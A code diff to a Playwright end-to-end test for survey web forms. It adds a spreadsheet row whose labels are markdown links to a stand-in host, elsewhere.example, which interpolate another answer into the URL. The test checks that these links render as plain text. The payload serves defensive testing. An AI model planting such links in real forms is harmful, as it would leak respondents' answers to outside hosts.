@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import io
+import re
 from datetime import UTC, datetime, timedelta
 
 import pytest
@@ -16,6 +17,9 @@ from tests.surveys.test_web_form import VISITS
 
 pytestmark = pytest.mark.journey
 PHONE = {"width": 390, "height": 844}
+# A link in a label would carry an answer to another host.
+LINK = ["note", "bye", "[Притисните](https://elsewhere.example/?a=${knows})",
+        "[Press](https://elsewhere.example/?a=${knows})"]  # fmt: skip
 
 
 @pytest.fixture(scope="module")
@@ -25,7 +29,12 @@ def made(world: Served, people: People) -> tuple[str, str]:
     dora.goto(world.url + "/surveys/new/")
     choose(dora, "source", "own")
     dora.set_input_files(
-        "[name=file]", {"name": "posete.xlsx", "mimeType": "", "buffer": book(VISITS)}
+        "[name=file]",
+        {
+            "name": "posete.xlsx",
+            "mimeType": "",
+            "buffer": book([*VISITS, LINK]),
+        },
     )
     dora.fill("[name=asked]", "средње школе")
     dora.select_option("[name=institution]", index=1)
@@ -64,6 +73,8 @@ def test_it_is_filled_in_sent_again_and_read_whole(
     page.locator(".odk-form .footer button").click()
     expect(page.locator(".question-container.highlight").first).to_be_visible()
     _fill(page)
+    expect(page.locator("#web-form")).to_contain_text(re.compile("Press|Притисните|Pritisnite"))
+    assert page.locator("#web-form a[href]").count() == 0
     assert page.evaluate("document.documentElement.scrollWidth") <= 390
     # The network fails: what was typed is there, and the same answer goes with the button.
     sent: list[bytes] = []
